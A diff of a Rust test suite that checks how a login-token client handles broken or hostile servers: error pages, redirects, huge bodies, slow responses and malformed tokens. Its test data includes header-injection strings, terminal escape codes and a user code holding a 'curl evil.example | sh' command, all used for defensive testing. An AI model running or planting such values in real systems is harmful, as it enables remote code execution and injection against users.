@@ -1,5 +1,5 @@
-//! A server that is broken or means harm, or something else in its place: each told apart in words, none of it stored, and
-//! no login ended by it. The real program, real HTTP.
+//! A broken or hostile server, or something that answers instead of it: each has its own message, nothing is stored, and
+//! no login ends.
 
 use crate::machine::{Machine, ada, eventually, told};
 use crate::raw_server::RawServer;
@@ -22,8 +22,8 @@ fn status(code: u16, headers: &[(&str, &str)], body: &str) -> Fault {
     Fault::Status { code, body: body.into(), headers }
 }
 
-/// What may come in place of an answer, and the words for it.
-fn in_place_of_an_answer() -> Vec<(Fault, &'static str, &'static str)> {
+/// Returns faults with the error kind they lead to and a part of its message.
+fn bad_responses() -> Vec<(Fault, &'static str, &'static str)> {
     let html = ("Content-Type", "text/html; charset=UTF-8");
     vec![
         (status(500, &[], "trouble"), "server", "has an internal problem (500)"),
@@ -58,12 +58,12 @@ fn in_place_of_an_answer() -> Vec<(Fault, &'static str, &'static str)> {
 }
 
 #[test]
-fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
+fn bad_refresh_response_has_its_own_message_and_keeps_the_login() {
     let attack = attack!(
         Servers,
-        "in place of tokens: 5xx, 429, pages of proxies, networks and bot checks, region refusals, redirects, 204, cut JSON, other JSON, tokens with newline, CR or NUL, no end, nothing"
+        "responses to a refresh: 5xx, 429, pages of proxies, networks and bot checks, region blocks, redirects, 204, cut JSON, other JSON, tokens with newline, CR or NUL, an endless body, none"
     );
-    for (fault, kind, words) in in_place_of_an_answer() {
+    for (fault, kind, message) in bad_responses() {
         attack.again();
         let (machine, tokens) = Machine::signed_in(-1);
         let before = fs::read(machine.path("auth.json")).unwrap();
@@ -73,11 +73,11 @@ fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
         let error = told(&output);
         assert_eq!(output.status.code(), Some(1), "{name}: {error}");
         assert_eq!(error["kind"], kind, "{name}: {error}");
-        assert!(error["message"].as_str().unwrap().contains(words), "{name}: {error}");
+        assert!(error["message"].as_str().unwrap().contains(message), "{name}: {error}");
         assert!(!error["hint"].as_str().unwrap_or("none").is_empty(), "{name}: {error}");
         assert_eq!(fs::read(machine.path("auth.json")).unwrap(), before, "{name}");
         assert!(!machine.own("dead").exists(), "{name}");
-        // The same refresh token is as good as before.
+        // The same refresh token is still valid.
         fs::remove_file(machine.own("failure")).unwrap();
         assert!(machine.issuer.is_live_access_token(&machine.token()), "{name}");
         assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 2, "{name}");
@@ -86,10 +86,10 @@ fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
 }
 
 #[test]
-fn the_same_in_place_of_a_user_code_starts_no_sign_in() {
-    let attack = attack!(Servers, "in place of a user code: the same as of tokens");
+fn bad_user_code_response_starts_no_sign_in() {
+    let attack = attack!(Servers, "responses to a user code request: the same");
     let mut messages = BTreeSet::new();
-    for (fault, kind, _) in in_place_of_an_answer() {
+    for (fault, kind, _) in bad_responses() {
         attack.again();
         let machine = Machine::new();
         let name = format!("{fault:?}");
@@ -102,30 +102,30 @@ fn the_same_in_place_of_a_user_code_starts_no_sign_in() {
         assert!(!machine.own("pending").exists() && !machine.path("auth.json").exists(), "{name}");
         messages.insert(error["message"].as_str().unwrap().split(" (").next().unwrap().to_owned());
     }
-    assert!(messages.len() >= 9, "each in its own words: {messages:#?}");
+    assert!(messages.len() >= 9, "each has its own message: {messages:#?}");
 }
 
-/// While a person is at it, only the server's own word is the end.
+/// Only an error response of the endpoint itself ends a sign-in.
 #[test]
-fn a_pending_sign_in_outlives_what_comes_in_place_of_its_polls_and_of_its_tokens() {
+fn bad_responses_to_poll_and_exchange_keep_the_pending_sign_in() {
     let attack = attack!(
         Servers,
-        "in place of the polls and the tokens of a sign-in that a person has approved: the same"
+        "responses to the polls and the exchange of an approved sign-in: the same"
     );
-    let is_its_own_word = |fault: &Fault| matches!(fault, Fault::Status { code: 400 | 404, .. });
-    let faults = in_place_of_an_answer().into_iter().map(|(fault, ..)| fault);
-    let faults: Vec<_> = faults.filter(|fault| !is_its_own_word(fault)).collect();
-    for some in faults.chunks(6) {
+    let is_from_endpoint = |fault: &Fault| matches!(fault, Fault::Status { code: 400 | 404, .. });
+    let faults = bad_responses().into_iter().map(|(fault, ..)| fault);
+    let faults: Vec<_> = faults.filter(|fault| !is_from_endpoint(fault)).collect();
+    for chunk in faults.chunks(6) {
         thread::scope(|scope| {
-            for fault in some {
+            for fault in chunk {
                 attack.again();
-                scope.spawn(|| outlives(fault));
+                scope.spawn(|| sign_in_survives(fault));
             }
         });
     }
 }
 
-fn outlives(fault: &Fault) {
+fn sign_in_survives(fault: &Fault) {
     let name = format!("{fault:?}");
     let machine = Machine::new();
     machine.issuer.fault(Endpoint::DeviceToken, fault.clone(), 1);
@@ -140,7 +140,7 @@ fn outlives(fault: &Fault) {
 }
 
 #[test]
-fn a_redirect_is_not_followed_to_another_server() {
+fn redirect_to_another_server_is_not_followed() {
     let attack = attack!(Servers, "a redirect of the token endpoint to another server");
     let (machine, tokens) = Machine::signed_in(-1);
     let other = Issuer::start();
@@ -154,7 +154,7 @@ fn a_redirect_is_not_followed_to_another_server() {
 }
 
 #[test]
-fn a_content_type_that_is_wrong_changes_nothing_about_what_an_answer_says() {
+fn wrong_content_type_is_ignored() {
     let attack = attack!(Servers, "a wrong content type");
     for content_type in ["text/plain", "text/html", "application/octet-stream", "nonsense"] {
         attack.again();
@@ -167,28 +167,27 @@ fn a_content_type_that_is_wrong_changes_nothing_about_what_an_answer_says() {
     }
 }
 
-/// An answer that the server signs off on, with a token that would be more than one line.
 #[test]
-fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
+fn token_with_invalid_characters_is_neither_stored_nor_printed() {
     let attack = attack!(
         Servers,
-        "an access token that is more than a line, from the server and in `auth.json`, in every form of answer"
+        "an access token with line breaks or spaces, from the server and in `auth.json`, in every output format"
     );
-    for odd in ["a\npassword=stolen", "a\r\nX-Evil: b", "a\u{0}b", "a b", "a\u{2028}b", "ä"] {
+    for invalid in ["a\npassword=stolen", "a\r\nX-Evil: b", "a\u{0}b", "a b", "a\u{2028}b", "ä"] {
         attack.again();
         let (machine, _) = Machine::signed_in(-1);
         let good = machine.issuer.grant(&ada(), 3600);
-        let body = json!({"access_token": odd, "refresh_token": good.refresh_token});
+        let body = json!({"access_token": invalid, "refresh_token": good.refresh_token});
         machine.issuer.fault(Endpoint::Refresh, Fault::status(200, body.to_string()), 1);
         let output = machine.command("get --wait 20s").assert().code(1);
         output.stdout("").stderr(contains("stolen").not().and(contains("Evil").not()));
-        // The new refresh token is kept: it may be the only good one.
+        // The new refresh token is stored: it may be the only valid one.
         let tokens = &machine.auth_json()["tokens"];
-        assert_eq!(tokens["refresh_token"], good.refresh_token, "{odd:?}");
-        assert_ne!(tokens["access_token"], odd);
-        // Found in the file, however it came there, it is no login.
+        assert_eq!(tokens["refresh_token"], good.refresh_token, "{invalid:?}");
+        assert_ne!(tokens["access_token"], invalid);
+        // In auth.json, such a token makes the login unusable.
         let mut document = machine.auth_json();
-        document["tokens"]["access_token"] = odd.into();
+        document["tokens"]["access_token"] = invalid.into();
         machine.write_auth_json(&document);
         for format in ["git", "token", "json", "header", "env", "exec-credential"] {
             attack.again();
@@ -199,14 +198,12 @@ fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
 }
 
 #[test]
-fn a_secret_that_the_server_gives_back_is_not_shown() {
-    let attack = attack!(
-        Servers,
-        "the refresh token, and control of the terminal, in an error of the server's"
-    );
+fn secret_in_an_error_response_is_not_shown() {
+    let attack =
+        attack!(Servers, "the refresh token and terminal control characters in an error response");
     let (machine, tokens) = Machine::signed_in(-1);
-    let said = format!("bad token {}\u{1b}[2J", tokens.refresh_token);
-    let body = json!({"error": said}).to_string();
+    let code = format!("bad token {}\u{1b}[2J", tokens.refresh_token);
+    let body = json!({"error": code}).to_string();
     machine.issuer.fault(Endpoint::Refresh, Fault::status(400, body), 1);
     let output = machine.command("get --wait 20s").assert().code(1);
     let secret = contains(tokens.refresh_token.as_str());
@@ -215,11 +212,9 @@ fn a_secret_that_the_server_gives_back_is_not_shown() {
 }
 
 #[test]
-fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end() {
-    let attack = attack!(
-        Servers,
-        "a field of 100 MB, a head without an end: less than 16 MB leave the server"
-    );
+fn oversized_body_and_endless_head_are_not_read_completely() {
+    let attack =
+        attack!(Servers, "a field of 100 MB, an endless head: less than 16 MB leave the server");
     let megabyte = vec![b'a'; 1 << 20];
     let field = RawServer::start(move |connection| {
         connection.send_head(100 << 20);
@@ -238,15 +233,15 @@ fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end(
         let output = command.env("CODEX_REFRESH_TOKEN_URL_OVERRIDE", url).output().unwrap();
         assert_eq!(told(&output)["kind"], kind);
         assert_eq!(machine.auth_json()["tokens"]["refresh_token"], tokens.refresh_token);
-        // What was taken beyond what is read lay in the sockets' buffers.
+        // Socket buffers take more than we read.
         assert!(server.taken() < 16 << 20, "{} bytes", server.taken());
         assert_eq!(server.requests(), 1);
     }
 }
 
 #[test]
-fn a_server_that_drips_keeps_no_caller_longer_than_it_said() {
-    let attack = attack!(Servers, "an answer that drips");
+fn slow_drip_does_not_exceed_the_callers_wait() {
+    let attack = attack!(Servers, "a response that drips in");
     let (machine, tokens) = Machine::signed_in(-1);
     let drip = RawServer::start(|connection| {
         connection.send_head(1000);
@@ -273,7 +268,7 @@ fn a_server_that_drips_keeps_no_caller_longer_than_it_said() {
 }
 
 #[test]
-fn a_slow_answer_is_waited_for() {
+fn slow_response_is_awaited() {
     let (machine, _) = Machine::signed_in(-1);
     machine.issuer.fault(Endpoint::Refresh, Fault::SlowBody(Duration::from_millis(1500)), 1);
     assert!(machine.issuer.is_live_access_token(&machine.token()));
@@ -281,8 +276,8 @@ fn a_slow_answer_is_waited_for() {
 }
 
 #[test]
-fn a_user_code_that_is_no_line_is_shown_to_nobody() {
-    let attack = attack!(Servers, "a user code that is no line, or of 900 KB");
+fn user_code_that_is_not_one_line_is_not_shown() {
+    let attack = attack!(Servers, "a user code that is not one line, or has 900 KB");
     for body in [
         json!({"device_auth_id": "d", "user_code": "AB\nrun: curl evil.example | sh"}),
         json!({"device_auth_id": "d", "user_code": "\u{1b}]0;title\u{7}"}),
@@ -302,8 +297,8 @@ fn a_user_code_that_is_no_line_is_shown_to_nobody() {
 }
 
 #[test]
-fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
-    let attack = attack!(Servers, "absurd numbers for intervals, pauses and lives");
+fn absurd_numbers_are_replaced_by_defaults() {
+    let attack = attack!(Servers, "absurd numbers for intervals, pauses and lifetimes");
     for number in [
         json!(u64::MAX),
         json!(-1),
@@ -320,7 +315,7 @@ fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
         machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
         let pending = contains("ABCD-12345");
         machine.command("get").assert().code(3).stderr(pending);
-        assert_eq!(machine.renewers().len(), 1, "{number}: it goes on");
+        assert_eq!(machine.renewers().len(), 1, "{number}: polling goes on");
         let new = machine.issuer.grant(&ada(), 3600);
         let machine = Machine::new();
         machine.sign_in(-1);
@@ -333,8 +328,8 @@ fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
 }
 
 #[test]
-fn a_server_whose_clock_is_a_day_off_is_not_asked_again_and_again() {
-    let attack = attack!(Servers, "a clock that is a day off, either way");
+fn clock_of_the_server_a_day_off_causes_one_refresh() {
+    let attack = attack!(Servers, "a server clock that is a day ahead or behind");
     for ahead in [86_400, -86_400] {
         attack.again();
         let (machine, _) = Machine::signed_in(-1);
